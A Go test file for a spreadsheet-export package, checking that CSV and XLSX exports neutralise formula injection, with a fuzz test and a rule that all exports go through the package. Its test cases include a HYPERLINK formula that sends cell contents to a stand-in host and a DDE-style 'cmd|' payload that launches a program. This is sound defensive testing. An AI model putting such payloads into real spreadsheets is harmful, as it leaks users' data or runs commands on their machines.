package sheet_test

import (
	"bytes"
	"encoding/csv"
	"math"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"

	"github.com/tremplin/tremplin/internal/sheet"
)

const hyperlink = `=HYPERLINK("http://x"&A1,"clic")`

func TestNeutralizeRules(t *testing.T) {
	t.Parallel()
	cases := []struct {
		name, in, want string
	}{
		{"equals", hyperlink, "'" + hyperlink},
		{"plus", "+33 1 43 93 93 93", "'+33 1 43 93 93 93"},
		{"minus", "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"at", "@SUM(A1:A2)", "'@SUM(A1:A2)"},
		{"tab", "\t=1+1", "'\t=1+1"},
		{"carriage return", "\r=1+1", "'\r=1+1"},
		{"line feed", "\n=1+1", "'\n=1+1"},
		{"full-width equals", "＝1+1", "'＝1+1"},
		{"full-width plus", "＋1", "'＋1"},
		{"full-width minus", "－1", "'－1"},
		{"full-width at", "＠SUM(A1)", "'＠SUM(A1)"},
		{"spaces then equals", "  =1+1", "'  =1+1"},
		{"no-break space then equals", "\u00a0=1+1", "'\u00a0=1+1"},
		{"plain name", "Roues Solidaires 93", "Roues Solidaires 93"},
		{"formula character inside", "Mobilité = liberté", "Mobilité = liberté"},
		{"empty", "", ""},
		{"apostrophe already", "'=1", "'=1"},
		{"spaces only", "   ", "   "},
	}
	for _, c := range cases {
		require.Equal(t, c.want, sheet.Neutralize(c.in), c.name)
	}
}

func readCSV(t *testing.T, b []byte, comma rune) [][]string {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\ufeff"))))
	r.Comma = comma
	r.FieldsPerRecord = -1
	rows, err := r.ReadAll()
	require.NoError(t, err)
	return rows
}

func TestCSVTextIsNeutralisedTypedCellsPassUnchanged(t *testing.T) {
	t.Parallel()
	var buf bytes.Buffer
	w := sheet.NewCSV(&buf, sheet.CSVOptions{Comma: ';', BOM: true, CRLF: true, Format: sheet.Format{Decimal: ','}})
	require.NoError(t, w.Header("Nom", "Montant", "Note", "Rang", "Date", "Vide"))
	day := time.Date(2026, 3, 12, 14, 30, 0, 0, time.UTC)
	require.NoError(t, w.Row(sheet.Text(hyperlink), sheet.Cents(-123456), sheet.Float(-2.5, 2), sheet.Int(-3),
		sheet.Date(day, "02/01/2006 15:04"), sheet.Empty()))
	require.NoError(t, w.Row(sheet.Text("-1"), sheet.Cents(5), sheet.Float(math.NaN(), 2), sheet.Int(0),
		sheet.Date(day, time.DateOnly), sheet.Text("")))
	require.NoError(t, w.Flush())
	out := buf.Bytes()
	require.True(t, bytes.HasPrefix(out, []byte("\ufeffNom;Montant;")), "BOM then header")
	require.Contains(t, string(out), "\r\n")
	rows := readCSV(t, out, ';')
	require.Equal(t, []string{"'" + hyperlink, "-1234,56", "-2,50", "-3", "12/03/2026 14:30", ""}, rows[1])
	require.Equal(t, []string{"'-1", "0,05", "NaN", "0", "2026-03-12", ""}, rows[2],
		"a negative number keeps its sign, the same text does not")
}

func TestCSVDefaults(t *testing.T) {
	t.Parallel()
	var buf bytes.Buffer
	w := sheet.NewCSV(&buf, sheet.CSVOptions{})
	require.NoError(t, w.Row(sheet.Text("a,b"), sheet.Cents(math.MinInt64), sheet.Cents(math.MaxInt64)))
	require.NoError(t, w.Flush())
	require.Equal(t, "\"a,b\",-92233720368547758.08,92233720368547758.07\n", buf.String(), "no BOM, dot decimals, LF")

	var empty bytes.Buffer
	w = sheet.NewCSV(&empty, sheet.CSVOptions{BOM: true})
	require.NoError(t, w.Flush())
	require.Equal(t, "\ufeff", empty.String(), "an empty export is still read as UTF-8")
}

func TestXLSXTextIsAStringCellNeverAFormula(t *testing.T) {
	t.Parallel()
	b, err := sheet.NewBook("Feuille")
	require.NoError(t, err)
	defer b.Close()
	day := time.Date(2026, 3, 12, 0, 0, 0, 0, time.UTC)
	require.NoError(t, b.Row("Feuille", 1, sheet.Texts("Nom", "Montant", "Rang", "Date", "Note")...))
	require.NoError(t, b.Row("Feuille", 2, sheet.Text(hyperlink), sheet.Cents(1234567), sheet.Int(-2), sheet.Date(day, ""),
		sheet.Float(3.14159, 2), sheet.Empty(), sheet.Text("-1")))
	raw, err := b.Bytes()
	require.NoError(t, err)

	f, err := excelize.OpenReader(bytes.NewReader(raw))
	require.NoError(t, err)
	defer f.Close()
	for _, cell := range []string{"A2", "G2"} {
		typ, err := f.GetCellType("Feuille", cell)
		require.NoError(t, err)
		require.Contains(t, []excelize.CellType{excelize.CellTypeSharedString, excelize.CellTypeInlineString}, typ, cell)
		formula, err := f.GetCellFormula("Feuille", cell)
		require.NoError(t, err)
		require.Empty(t, formula, cell)
	}
	v, err := f.GetCellValue("Feuille", "A2")
	require.NoError(t, err)
	require.Equal(t, hyperlink, v, "the text is kept as typed, inert")
	for cell, want := range map[string]string{"B2": "12345.67", "C2": "-2", "E2": "3.14"} {
		typ, err := f.GetCellType("Feuille", cell)
		require.NoError(t, err)
		require.NotEqual(t, excelize.CellTypeSharedString, typ, cell)
		v, err := f.GetCellValue("Feuille", cell, excelize.Options{RawCellValue: true})
		require.NoError(t, err)
		require.Equal(t, want, v, cell)
	}
	v, err = f.GetCellValue("Feuille", "D2")
	require.NoError(t, err)
	require.Equal(t, "12/03/2026", v, "a date shown the French way")
	v, err = f.GetCellValue("Feuille", "F2")
	require.NoError(t, err)
	require.Empty(t, v)
}

// FuzzCSVText checks the CSV writer's promise on any text: read back with
// encoding/csv, a text cell is the original or "'" + the original, and never
// starts with a character a spreadsheet would evaluate.
func FuzzCSVText(f *testing.F) {
	for _, s := range []string{hyperlink, "-1", "+", "@", "\t", "\r\n=1", "\n=1", "＝1", " =1", "plain", "", "\"=1\"", "a;b", "\xff=1"} {
		f.Add(s, s)
	}
	f.Fuzz(func(t *testing.T, a, b string) {
		var buf bytes.Buffer
		w := sheet.NewCSV(&buf, sheet.CSVOptions{Comma: ';', BOM: true})
		// The leading number keeps every line non-empty (encoding/csv skips empty lines).
		if err := w.Row(sheet.Int(1), sheet.Text(a), sheet.Text(b)); err != nil {
			t.Fatal(err)
		}
		if err := w.Flush(); err != nil {
			t.Fatal(err)
		}
		r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(buf.Bytes(), []byte("\ufeff"))))
		r.Comma = ';'
		rows, err := r.ReadAll()
		if err != nil {
			t.Fatalf("unreadable CSV %q: %v", buf.String(), err)
		}
		if len(rows) != 1 || len(rows[0]) != 3 {
			t.Fatalf("want one row of 3 cells, got %q from %q", rows, buf.String())
		}
		for i, orig := range []string{a, b} {
			got := rows[0][i+1]
			// encoding/csv reads a quoted "\r\n" back as "\n".
			want := strings.ReplaceAll(orig, "\r\n", "\n")
			if got != want && got != "'"+want {
				t.Fatalf("cell %q came back as %q", orig, got)
			}
			if sheet.Dangerous(got) {
				t.Fatalf("cell %q came back live: %q", orig, got)
			}
		}
	})
}

// TestEveryExportGoesThroughSheet keeps the rule: no CSV writer and no
// untyped XLSX value outside this package, so no export can forget to
// neutralise a cell.
func TestEveryExportGoesThroughSheet(t *testing.T) {
	t.Parallel()
	forbidden := regexp.MustCompile(`csv\.NewWriter\(|\.SetCellValue\(|\.SetSheetRow\(|\.SetSheetCol\(|\.SetCellStr\(|\.SetCellRichText\(`)
	root, err := filepath.Abs(filepath.Join("..", ".."))
	require.NoError(t, err)
	self, err := filepath.Abs(".")
	require.NoError(t, err)
	var offenders []string
	for _, dir := range []string{"internal", "cmd"} {
		err := filepath.WalkDir(filepath.Join(root, dir), func(path string, d os.DirEntry, err error) error {
			if err != nil {
				return err
			}
			if d.IsDir() {
				if path == self {
					return filepath.SkipDir
				}
				return nil
			}
			if !strings.HasSuffix(path, ".go") || strings.HasSuffix(path, "_test.go") {
				return nil
			}
			src, err := os.ReadFile(path)
			if err != nil {
				return err
			}
			for i, line := range strings.Split(string(src), "\n") {
				if forbidden.MatchString(line) {
					rel, _ := filepath.Rel(root, path)
					offenders = append(offenders, rel+":"+strings.TrimSpace(line)+" (line "+strconv.Itoa(i+1)+")")
				}
			}
			return nil
		})
		require.NoError(t, err)
	}
	require.Empty(t, offenders, "write CSV and XLSX cells through internal/sheet")
}
